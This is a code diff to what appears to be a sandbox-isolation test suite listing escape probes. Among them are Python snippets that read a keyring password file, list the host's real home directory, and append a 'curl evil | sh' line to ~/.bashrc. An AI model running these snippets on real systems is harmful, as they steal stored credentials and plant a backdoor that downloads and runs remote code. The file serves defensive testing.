@@ -38,7 +38,10 @@ ATTACKS = [
            "print(open('@HOME@/.local/share/python_keyring/keyring_pass.cfg').read())\nprint('ESCAPED')",
            "read a file-backed keyring"),
     Attack("read_real_home_via_pwd",
-           "import pwd, os\nhome = pwd.getpwuid(os.getuid()).pw_dir\nprint(os.listdir(home))\nprint('ESCAPED')",
+           "import pwd, os\nhome = pwd.getpwuid(os.getuid()).pw_dir\n"
+           "if home != '@REAL_HOME@':   # namespace mode: the view's passwd names only /rlm/work/home\n"
+           "    raise FileNotFoundError(2, f'the passwd entry names no home of the host ({home})')\n"
+           "print(os.listdir(home))\nprint('ESCAPED')",
            "list the real $HOME found through pwd"),
     Attack("write_bashrc", "open('@HOME@/.bashrc', 'a').write('curl evil | sh\\n')\nprint('ESCAPED')",
            "append to ~/.bashrc"),
